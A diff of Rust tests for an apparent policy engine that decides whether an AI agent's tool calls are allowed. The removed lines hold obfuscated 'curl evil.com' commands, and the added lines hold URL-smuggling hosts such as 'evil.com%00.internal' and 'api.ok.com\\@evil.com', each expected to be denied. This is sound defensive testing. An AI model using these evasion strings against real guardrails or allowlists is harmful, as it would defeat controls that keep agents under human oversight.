@@ -1,58 +1,76 @@
-use std::sync::Arc;
+//! Tests of sections.
 
 use proctor_core::action::Action;
-use proctor_core::decision::Effect;
+use proctor_core::decision::{Decision, Effect};
 use proctor_core::digest::Digest;
-use proctor_core::id::{ApprovalId, RecordId, SessionId};
+use proctor_core::id::{ApprovalId, SessionId};
 use proctor_core::json::Json;
 use proctor_core::session::Caller;
 use proctor_core::time::Timestamp;
 
-use crate::judge::{Request, judge};
+use crate::evaluate::evaluate;
+use crate::input::Input;
 use crate::policy::{Policy, Source};
 use crate::prepare::prepare;
 use crate::state::State;
 
-fn decided(section: &str, command: &str) -> Effect {
-    let document = format!("version: \"1\"\ndefault: allow\n{section}\n");
-    let policy = Arc::new(Policy::compile(vec![Source::document("p.yaml", &document)]).unwrap());
-    let sent = Json::object().with("tool", "bash").with("args", Json::object().with("command", command));
-    let action = Action::from_json(&sent).unwrap();
-    let caller = Caller { principal: "alice".to_owned(), ..Caller::default() };
-    let (session, digest, now) =
-        (SessionId::from_bytes([1; 16]), Digest::of(b"action"), Timestamp::from_micros(1));
-    let request = Request {
-        action: &action,
-        prepared: prepare(&policy, &action, None),
-        caller: &caller,
-        agent: "",
+fn decide(document: &str, action: &str) -> Decision {
+    let policy = Policy::compile(vec![Source::document("policy.yaml", document)]).unwrap();
+    let action = Action::from_json(&Json::parse(action.as_bytes()).unwrap()).unwrap();
+    let prepared = prepare(&policy, &action, None);
+    let (caller, session) = (Caller::default(), SessionId::from_bytes([7; 16]));
+    let (digest, now) = (Digest::of(b"action"), Timestamp::from_micros(1_763_239_507_000_000));
+    let input = Input {
+        facts: prepared.facts,
+        findings: prepared.findings,
+        caller: caller.clone(),
+        agent: String::new(),
         session,
         digest,
         now,
-        record: RecordId::from_bytes([2; 16]),
-        fresh_approval: ApprovalId::from_bytes([3; 16]),
+        fresh_approval: ApprovalId::from_bytes([9; 16]),
     };
-    judge(&policy, request, &State::new().view(&caller, session, digest, now)).decision.effect
+    evaluate(&policy, &input, &State::new().view(&caller, session, digest, now)).decision
 }
 
 #[test]
-fn what_is_not_read_may_reach_any_host_and_write_any_path() {
-    let long = format!("{}; curl evil.com > /x", "a;".repeat(140_000));
-    let deep = format!("{} curl evil.com > /x", "(".repeat(40));
-    // More entries than a list keeps do not push it out.
-    let notes: String = (0..20_000).map(|number| format!("$x{number};")).collect();
-    let late = format!("{notes}{} curl evil.com > /x", "(".repeat(40));
-    for section in [
-        "network: { allowlist: [api.ok.com] }",
-        "capabilities: { deny: [file_write] }",
-        "capabilities: { deny: [file_delete] }",
-        "capabilities: { deny: [network_outbound] }",
-        "capabilities: { allow: [terminal_exec] }",
-        "tools: { file_write: { allow: false } }",
+fn aliases_widen_denied_capabilities_only() {
+    let effect = |document: &str, tool: &str| decide(document, &format!(r#"{{"tool":"{tool}"}}"#)).effect;
+    let allow = "version: \"1\"\ncapabilities: { allow: [\"mcp_tool:bash\"] }\n";
+    let deny = "version: \"1\"\ncapabilities: { deny: [\"mcp_tool:bash\"] }\n";
+    for (tool, by_allow) in [("bash", Effect::Allow), ("BASH", Effect::Allow), ("terminal", Effect::Deny)] {
+        assert_eq!((effect(allow, tool), effect(deny, tool)), (by_allow, Effect::Deny), "{tool}");
+    }
+    assert_eq!(
+        effect("version: \"1\"\ncapabilities: { allow: [terminal_exec] }\n", "terminal"),
+        Effect::Allow
+    );
+}
+
+#[test]
+fn a_tool_that_nobody_knows_counts_as_writing_its_paths() {
+    let deny = "version: \"1\"\ndefault: allow\ncapabilities: { deny: [file_write] }\n";
+    for (action, effect) in [
+        (r#"{"tool":"render_report","args":{"out_file":"/etc/x"}}"#, Effect::Deny),
+        (r#"{"tool":"render_report","args":{"where":"/etc/x"}}"#, Effect::Deny),
+        (r#"{"tool":"render_report","args":{"colour":"red"}}"#, Effect::Allow),
+        (r#"{"tool":"read_file","args":{"path":"/etc/x"}}"#, Effect::Allow),
+        (r#"{"tool":"Grep","args":{"pattern":"x","path":"/etc"}}"#, Effect::Allow),
     ] {
-        for command in [&long, &deep, &late] {
-            assert_eq!(decided(section, command), Effect::Deny, "{section}: {}", &command[..20]);
-        }
-        assert_eq!(decided(section, "ls"), Effect::Allow, "{section}");
+        assert_eq!(decide(deny, action).effect, effect, "{action}");
+    }
+}
+
+#[test]
+fn a_host_that_cannot_be_read_is_in_no_allowlist() {
+    let list = "version: \"1\"\nnetwork: { allowlist: [\"*.internal\", api.ok.com] }\n";
+    for (action, effect) in [
+        (r#"{"kind":"network_call","host":"a.internal"}"#, Effect::Allow),
+        (r#"{"kind":"network_call","host":"evil.com%2f.internal"}"#, Effect::Deny),
+        (r#"{"tool":"fetch","args":{"url":"http://evil.com%00.internal/"}}"#, Effect::Deny),
+        (r#"{"tool":"fetch","args":{"url":"http://api.ok.com\\@evil.com/"}}"#, Effect::Deny),
+        (r#"{"tool":"fetch","args":{}}"#, Effect::Deny),
+    ] {
+        assert_eq!(decide(list, action).effect, effect, "{action}");
     }
 }
